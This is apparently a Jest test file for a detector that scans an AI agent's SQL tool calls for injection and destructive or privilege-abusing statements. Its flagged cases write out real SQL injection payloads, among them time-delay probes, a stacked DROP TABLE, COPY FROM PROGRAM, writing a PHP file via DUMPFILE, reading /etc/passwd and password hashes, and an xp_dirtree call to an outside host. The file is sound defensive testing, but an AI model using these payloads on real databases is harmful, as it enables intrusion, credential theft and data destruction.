import { describe, expect, it } from '@jest/globals';
import { scanCall } from '../index.ts';

const rulesOf = (sql: string): string[] => scanCall({ name: 'db_query', arguments: { sql } }).threats.map(({ rule }) => rule);

describe('a statement given to a SQL tool', () => {
  it.each([
    'SELECT * FROM users WHERE 1=1 AND active = true',
    "SELECT id FROM a WHERE x = 'y' OR z = 'w' UNION SELECT id FROM b -- both",
    "SELECT 'a' AS k, count(*) FROM t UNION ALL SELECT 'b', count(*) FROM u",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    "INSERT INTO notes (body) VALUES ('don''t -- panic; DROP TABLE is just text')",
    "SELECT \"user\" FROM \"table\" WHERE \"from\" = 'x' OR \"to\" = 'y'",
    "SELECT * FROM t WHERE d >= DATE '2024-01-01' AND tags && ARRAY['a'] OR n IS DISTINCT FROM 5",
    "SELECT * FROM t WHERE x = 'y' -- don't include z",
    'WITH d AS (DELETE FROM sessions WHERE expires < now() RETURNING id) SELECT count(*) FROM d',
    'UPDATE accounts SET balance = balance - 10 WHERE id = 5',
    'update "user" set "title" = \'Mr.\' where "id" = 1',
    'DELETE FROM tmp_import',
    'ALTER TABLE users ALTER COLUMN age DROP NOT NULL',
    'GRANT SELECT ON ALL TABLES IN SCHEMA public TO readonly',
  ])('is ordinary: %s', (sql) => {
    expect(rulesOf(sql)).toEqual([]);
  });

  it.each([
    ['sql.literal-broken-out', "SELECT * FROM users WHERE name = 'x' OR 'a'='a' AND pw = 'y'"],
    ['sql.literal-broken-out', 'SELECT * FROM t WHERE id = 1 AND 5821=5821'],
    ['sql.literal-broken-out', "SELECT * FROM t WHERE id = 1' ORDER BY 3--+"],
    ['sql.statement-cut-off', "SELECT * FROM users WHERE name = 'admin'--' AND pw = ''"],
    ['sql.union-mismatch', 'SELECT id, name FROM p WHERE id = -1 UNION SELECT 1, version()'],
    ['sql.malformed-comparison', 'SELECT id FROM p WHERE id = SELECT 1 FROM q'],
    ['sql.delay-in-condition', 'SELECT * FROM p WHERE id = 1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)'],
    ['sql.drop-table', "SELECT * FROM users WHERE name = ''; DROP TABLE users; --'"],
    ['sql.delete-all-rows', 'DELETE FROM public.orders WHERE true'],
    ['sql.update-all-rows', "UPDATE users SET active = false WHERE 'a' = 'a'"],
    ['sql.update-all-rows', 'UPDATE "users" SET "active" = false WHERE "id" = "id"'],
    ['sql.truncate-table', 'TRUNCATE orders'],
    ['sql.grant-all', 'GRANT DBA TO scott'],
    ['sql.superuser', 'ALTER SERVER ROLE sysadmin ADD MEMBER [eve]'],
    ['sql.command-execution', "COPY cmd FROM PROGRAM 'id'"],
    ['sql.server-file-write', "SELECT 'x' INTO DUMPFILE '/srv/www/x.php'"],
    ['sql.server-file-read', "SELECT pg_read_file('/etc/passwd')"],
    ['sql.account-hashes', 'SELECT rolname, rolpassword FROM pg_authid'],
    ['sql.server-network', String.raw`EXEC master..xp_dirtree '\\198.51.100.3\share'`],
  ])('%s: %s', (rule, sql) => {
    expect(rulesOf(sql)).toContain(rule);
  });

  it.each(['begin ', 'goto a ', 'or (', 'union select 1,', "'a", 'drop table a;'])('is read to its end though it repeats %j', (part) => {
    const sql = `SELECT * FROM t WHERE a = 1 ${part.repeat(60_000)}`;
    expect(scanCall({ name: 'db_query', arguments: { sql } }).threats_detected).not.toContain('scan_incomplete');
  });

  it('weighs less in a migration that people read first', () => {
    const scan = scanCall({ name: 'write_file', arguments: { path: 'db/migrations/7.sql', content: 'DROP TABLE invoices;' } });
    expect(scan.threats.map(({ rule }) => rule)).toEqual(['sql.drop-table-in-script']);
    expect(scan.risk_score).toBeLessThan(0.7);
  });
});
